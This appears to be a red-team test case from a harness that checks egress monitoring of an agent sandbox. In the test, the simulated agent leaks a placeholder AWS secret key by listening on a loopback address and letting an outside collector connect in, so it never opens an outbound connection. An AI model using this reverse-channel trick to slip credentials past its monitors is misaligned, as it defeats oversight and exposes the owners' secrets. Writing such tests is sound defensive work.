"""Round 7: no connect at all -- the agent listens, a collector outside its tree connects IN for the secret.

A reverse channel: the agent binds a new loopback address, advertises the
port in a file, accepts the collector's connection (staged before the
victims) and writes the secret to the accepted socket.  Its only egress
syscalls are bind/listen/accept/send on a socket it never connected.
"""

from __future__ import annotations

import socket
from pathlib import Path
from typing import Any

from redteam import rt

GAP = 1
MODE = "inject"
TARGET = "host"
HELD_OUT = True
ROUND = 7
STAGE = True
EXPECT = ("L4",)
IP = "127.0.7.31"


def _files(work: str) -> tuple[Path, Path, Path]:
    d = Path(work).parent / "daemons"
    return d / "r7-pull.port", d / "r7-pull.count", d / "r7-pull.pid"


def stage(args: dict[str, Any]) -> None:
    port, count, pid = _files(args["work"])
    port.unlink(missing_ok=True)
    rt.stage_daemon(rt.sink_argv("pull", IP, str(port), str(count), script="_r7_sink.py"), pid, count.exists)


def unstage(args: dict[str, Any]) -> None:
    rt.unstage_daemon(_files(args["work"])[2])


def run(args: dict[str, Any]) -> None:
    portfile, count, _ = _files(args["work"])
    before = rt.wait_count(count, 0, 0)
    payload = b"AWS_SECRET_ACCESS_KEY=h7redteam/round7/accept-side\n" * 40
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as srv:
        srv.bind((rt.loopback(IP), 0))
        srv.listen(1)
        srv.settimeout(10)
        t = rt.now()
        portfile.write_text(str(srv.getsockname()[1]))
        try:
            c, peer = srv.accept()
        except TimeoutError:
            rt.report(t, False, "no collector connected within 10 s")
            return
        with c:
            c.sendall(payload)
    got = rt.wait_count(count, before + len(payload)) - before
    rt.report(
        t,
        got >= len(payload),
        f"accepted {peer[0]}:{peer[1]} on {IP}, sent {len(payload)} B: collector got {got}",
    )


if __name__ in ("__main__", "h7_injected"):
    rt.main(run, globals())
